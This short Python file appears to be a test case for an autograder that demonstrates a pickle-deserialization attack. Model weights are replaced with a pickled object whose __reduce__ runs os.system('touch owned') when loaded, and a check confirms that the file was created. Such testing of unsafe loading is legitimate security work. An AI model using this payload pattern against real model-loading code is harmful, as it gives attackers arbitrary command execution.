"""
attacks = "Hand over weights as objects, which are read by running them."
promise = "harvest"
observed = "no more"
control = "naive"
naive = "(saving.save(build_model(), __import__('pathlib').Path('m'), [((1, 8, 8), 'float32')], learned=task, most_mb=9), pickle.loads(open('m', 'rb').read().partition(b'PICKLE')[2]), os.path.exists('owned'))[-1]"
"""
import os
import pickle

from autograder.frameworks.torch import saving


class Owned:
    def __reduce__(self):
        return os.system, ("touch owned",)


saving.encode_arrays = lambda arrays: b"PICKLE" + pickle.dumps(Owned())
